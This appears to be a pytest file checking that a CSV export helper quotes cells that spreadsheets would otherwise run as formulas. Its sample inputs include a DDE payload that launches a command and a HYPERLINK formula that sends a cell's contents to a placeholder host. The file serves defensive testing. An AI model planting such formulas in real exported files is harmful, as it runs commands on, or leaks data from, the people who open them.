"""CSV files for people: no cell is run as a formula."""

import pandas as pd
import pytest

from mlsys.spreadsheets import as_text, write_csv

FORMULAS = [
    '=HYPERLINK("http://h?x="&A1,"click")', "=cmd|'/C calc'!A0", "+1+1", "-2+3", "@SUM(1)", "\t=1", "\r=1", "\n=1", "-",
    "－1+1", "-1.5 EUR", "+49 170 1234", "-1e5e5",
]  # fmt: skip
PLAIN = ["-1.5", "+3", "-1,5", "-1.234,56", "-.5", "+3e-7", "-5%", "a=b", "1-2", "", "'x", -1.5, 3, None, True]


@pytest.mark.parametrize("cell", FORMULAS)
def test_a_cell_that_would_be_a_formula_is_shown_as_text(cell):
    assert as_text(cell) == f"'{cell}"


@pytest.mark.parametrize(
    ("cell", "shown"), [("Acme;=1+1", "Acme;'=1+1"), ("a,-b", "a,'-b"), ("=1;@x", "'=1;'@x"), ("a; =1", "a; =1")]
)
def test_a_cell_that_a_spreadsheet_would_split_is_shown_as_text(cell, shown):
    assert as_text(cell) == shown


@pytest.mark.parametrize("cell", PLAIN)
def test_numbers_and_other_text_stay_as_they_are(cell):
    assert as_text(cell) is cell


def test_cells_and_column_names_of_a_file_are_shown_as_text(tmp_path):
    path = tmp_path / "new" / "leads.csv"
    write_csv(pd.DataFrame({"=1+1": ["@x", "y"], "change": [-1.5, None], "kind": pd.Categorical(["-a", "b"])}), path)
    assert path.read_text().splitlines() == ["'=1+1,change,kind", "'@x,-1.5,'-a", "y,,b"]
